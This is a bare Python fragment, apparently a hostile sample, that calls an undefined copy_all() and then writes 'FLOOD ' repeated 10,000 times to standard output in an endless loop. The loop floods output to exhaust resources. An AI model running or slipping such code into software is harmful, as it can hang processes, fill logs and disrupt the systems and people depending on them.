copy_all()
while True:
    os.write(1, b"FLOOD " * 10000)
